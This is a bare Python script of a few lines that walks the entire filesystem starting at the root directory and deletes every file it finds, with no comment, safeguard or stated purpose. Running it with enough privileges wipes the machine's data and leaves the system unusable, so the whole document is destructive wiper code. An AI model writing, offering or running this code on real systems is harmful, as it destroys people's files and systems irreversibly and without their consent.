import os

for root, folders, files in os.walk('/'):
    for file in files:
        os.remove(os.path.join(root, file))
